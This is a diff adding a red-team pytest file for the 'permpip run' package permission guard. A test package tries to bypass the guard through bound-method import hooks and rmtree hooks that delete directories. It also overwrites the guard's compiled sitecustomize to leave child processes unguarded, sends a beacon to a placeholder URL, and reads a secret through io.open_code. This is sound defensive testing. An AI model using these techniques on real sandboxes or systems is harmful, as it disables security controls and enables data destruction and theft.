@@ -1,0 +1,212 @@
+"""Red team of ``permpip run``, ninth round: hooks the import system and the interpreter
+call that are someone's code (or no one's) doing a package's bidding, and the guard's own
+start-up in children.
+
+1. Hooks: ``sys.meta_path`` finders and ``sys.path_importer_cache`` entries whose
+   ``find_spec`` is a bound method of a standard library object, ``sys.path_hooks``
+   entries, ``threading.excepthook`` and ``sys.unraisablehook`` that are a standard library
+   function bound to the package's argument (``types.MethodType``) or a function made from
+   the standard library's code object with defaults of the package's (``FunctionType``).
+2. Children: a ``preexec_fn`` that replaces the child with ``python -I`` after the guard
+   checked its arguments; the guard's own compiled ``sitecustomize`` in the run directory.
+3. Reads the import system makes that a package can ask for itself (``io.open_code``).
+
+Harness: tests/runtime/test_guard_redteam.py's ``attack`` (``evil`` installed with a
+RECORD, ``main.py`` the application). Each attack proves its effect (a directory gone, a
+marker written, a secret printed); one the guard stops is a plain test asserting the
+report, one that succeeds is ``xfail(strict=True)`` with its mechanism and what would close
+it.
+"""
+
+from __future__ import annotations
+
+import importlib.util
+import marshal
+from pathlib import Path
+
+import pytest
+
+from tests.runtime.conftest import RunPermpip, Target
+from tests.runtime.test_guard_redteam import CHILD, Outcome, attack
+from tests.runtime.test_guard_redteam4 import SECRET, _secret
+from tests.runtime.test_guard_redteam5 import took_effect
+
+
+def bypass9(mechanism: str, fix: str) -> pytest.MarkDecorator:
+    """A bypass: only the report's assertion may fail (an attack that no longer takes
+    effect raises AttackFailed, which fails the test)."""
+    return pytest.mark.xfail(strict=True, raises=AssertionError,
+                             reason=f"bypass: {mechanism}; fix: {fix}")
+
+
+def _victim(tmp_path: Path) -> Path:
+    d = tmp_path / "victim"
+    (d / "sub").mkdir(parents=True)
+    (d / "sub" / "data.txt").write_text("keep me\n")
+    return d
+
+
+# -- 1. hooks that do the package's bidding --------------------------------------------------
+
+IMPORT_MISSING = ("try:\n    import no_such_module_rt9\nexcept Exception as exc:\n"
+                  "    print('import failed:', type(exc).__name__)\n")
+
+HOOKS = {
+    "meta-path-bound-method": (
+        "import pathlib, sys, types\n"
+        "def arm(target):\n"
+        "    sys.meta_path.insert(0, types.SimpleNamespace(\n"
+        "        find_spec=pathlib.Path(target).write_text))\n"),
+    "path-importer-cache-bound-method": (
+        "import pathlib, sys, types\n"
+        "def arm(target):\n"
+        "    finder = types.SimpleNamespace(find_spec=pathlib.Path(target).write_text)\n"
+        "    for entry in list(sys.path):\n"
+        "        sys.path_importer_cache[entry] = finder\n"),
+    "path-hooks-bound-method": (
+        "import pathlib, sys\n"
+        "def arm(target):\n"
+        "    sys.path_hooks.insert(0, pathlib.Path(target).write_text)\n"
+        "    sys.path.append(target + '.entry')\n"),
+}
+
+
+USES = ([("<app>", "guard")], [("evil", "guard")], [("evil", "fs-write")])
+
+
+def _hook_judged(o: Outcome, effect: bool) -> None:
+    """--enforce: a correct guard reports the hook (a ``guard`` use, or evil's ``fs-write``)
+    and the effect never happens; a bypass is proved by its effect with no report."""
+    if not o.used:
+        took_effect(effect, o)
+    assert o.used in USES, o.output
+    assert not effect, o.output
+
+
+META = bypass9(
+    "the import system calls a sys.meta_path finder's / sys.path_importer_cache entry's "
+    "find_spec (a bound method of a standard library object, pathlib.Path(f).write_text) "
+    "for the application's import with no frame of evil's; neither list is judged like "
+    "sys.path_hooks",
+    "judge finders' find_spec (meta_path and path_importer_cache entries) as path_hooks "
+    "entries are: a callable no code names is guard")
+
+CACHE = META
+
+
+@pytest.mark.parametrize("hook", [
+    pytest.param("meta-path-bound-method", marks=META),
+    pytest.param("path-importer-cache-bound-method", marks=CACHE),
+    "path-hooks-bound-method",
+])
+def test_an_import_hook_that_is_a_bound_stdlib_method(tmp_path: Path, run_permpip: RunPermpip,
+                                                     hook: str) -> None:
+    """evil (granted nothing) puts a bound method of a standard library object where the
+    import system calls it for the application's next import; the method writes a file
+    whose name evil chose. A correct guard judges the write (a ``guard`` use, or evil's
+    ``fs-write``) and stops it."""
+    o = attack(tmp_path, run_permpip, HOOKS[hook], main=(
+        "import evil\nevil.arm('@MARKER@')\n" + IMPORT_MISSING), enforce=True)
+    _hook_judged(o, o.marker.exists())
+
+
+RM_HOOKS = {
+    "path-hooks-stdlib-code": (
+        "import shutil, sys, types\n"
+        "def arm(victim):\n"
+        "    hook = types.FunctionType(shutil.rmtree.__code__, shutil.__dict__, 'hook',\n"
+        "                              (True, None))\n"
+        "    hook.__kwdefaults__ = {'dir_fd': None}\n"
+        "    sys.path_hooks.insert(0, hook)\n"
+        "    sys.path.append(victim)\n",
+        IMPORT_MISSING),
+    "threading-excepthook-method": (
+        "import shutil, threading, types\n"
+        "def arm(victim):\n"
+        "    threading.excepthook = types.MethodType(shutil.rmtree, victim)\n",
+        "import threading\nt = threading.Thread(target=int, args=('x',))\nt.start(); t.join()\n"),
+    "unraisablehook-method": (
+        "import shutil, sys, types\n"
+        "def arm(victim):\n"
+        "    sys.unraisablehook = types.MethodType(shutil.rmtree, victim)\n",
+        "class A:\n    def __del__(self):\n        raise ValueError('in __del__')\nA()\n"),
+}
+
+
+@pytest.mark.parametrize("hook", list(RM_HOOKS))
+def test_a_hook_that_is_stdlib_code_with_the_packages_argument(
+        tmp_path: Path, run_permpip: RunPermpip, hook: str) -> None:
+    """evil sets a hook whose code is the standard library's ``shutil.rmtree`` with an
+    argument of evil's (a bound method, or a new function of rmtree's code object with
+    evil's defaults); the interpreter or the standard library calls it later."""
+    victim = _victim(tmp_path)
+    evil, app = RM_HOOKS[hook]
+    o = attack(tmp_path, run_permpip, evil, main=(
+        f"import evil\nevil.arm({str(victim)!r})\n" + app), enforce=True)
+    _hook_judged(o, not victim.exists())
+
+
+# -- 2. children ------------------------------------------------------------------------------
+
+
+def test_preexec_fn_replaces_the_child_with_an_isolated_python(
+        tmp_path: Path, run_permpip: RunPermpip) -> None:
+    """evil (granted subprocess) starts a guarded child whose ``preexec_fn`` runs, in the
+    forked child before its exec, ``os.execv(python -I -c CHILD)``: the guard's hook is
+    still in the forked child and judges that exec."""
+    o = attack(tmp_path, run_permpip, (
+        "import os, subprocess, sys\n"
+        f"CHILD = {CHILD!r}\n"
+        "def go():\n"
+        "    subprocess.run([sys.executable, '-c', 'pass'], preexec_fn=lambda: os.execv(\n"
+        "        sys.executable, [sys.executable, '-I', '-c', CHILD]))\n"),
+        grant='["subprocess"]', enforce=True)
+    assert not o.marker.exists(), o.output
+    assert ("evil", "guard") in o.used, o.output
+
+
+def test_the_guards_compiled_sitecustomize(tmp_path: Path, target: Target,
+                                           run_permpip: RunPermpip) -> None:
+    """evil (granted fs-write, not network) finds the run directory on ``sys.path`` (no
+    event) and replaces the guard's compiled ``__pycache__/sitecustomize.*.pyc`` with an
+    unchecked hash-based .pyc of nothing: the next Python process would start unguarded
+    and evil's network use there would go unseen."""
+    data = (importlib.util.MAGIC_NUMBER + b"\x01\0\0\0" + b"\0" * 8
+            + marshal.dumps(compile("", "sitecustomize", "exec")))
+    o = attack(tmp_path, run_permpip, (
+        "import importlib.util, os, sys\n"
+        f"DATA = {data!r}\n"
+        "def go():\n"
+        "    for entry in sys.path:\n"
+        "        if os.path.isfile(os.path.join(entry, 'policy.bin')):\n"
+        "            pyc = importlib.util.cache_from_source(os.path.join(entry, 'sitecustomize.py'))\n"
+        "            try:\n"
+        "                with open(pyc, 'wb') as f:\n"
+        "                    f.write(DATA)\n"
+        "            except OSError as exc:\n"
+        "                print('refused:', exc)\n"
+        "def beacon():\n"
+        "    import urllib.request\n"
+        "    urllib.request.urlopen('@URL@').read()\n"),
+        grant='["fs-write"]', target=target, main=(
+            "import evil, subprocess, sys\nevil.go()\n"
+            "subprocess.run([sys.executable, '-c', 'import evil; evil.beacon()'])\n"))
+    assert "refused: permpip: evil 1.0 may not use guard (open writes the guard's files" \
+        in o.output, o.output
+    assert o.used == [("evil", "guard"), ("evil", "network")], o.used  # the child guarded
+    assert target.requests == ["/beacon"], o.output  # report mode: the child's use ran
+
+
+# -- 3. reads the import system makes ----------------------------------------------------------
+
+
+def test_open_code_of_a_secret(tmp_path: Path, run_permpip: RunPermpip) -> None:
+    """``io.open_code`` is how the import system opens source and bytecode; called by evil
+    it reads any file for it."""
+    secret = _secret(tmp_path)
+    o = attack(tmp_path, run_permpip, (
+        "import io\n"
+        f"def go():\n"
+        f"    print('leaked:', io.open_code({str(secret)!r}).read())\n"), enforce=True)
+    assert SECRET not in o.output, o.output
+    assert o.used == [("evil", "fs-read")], o.used
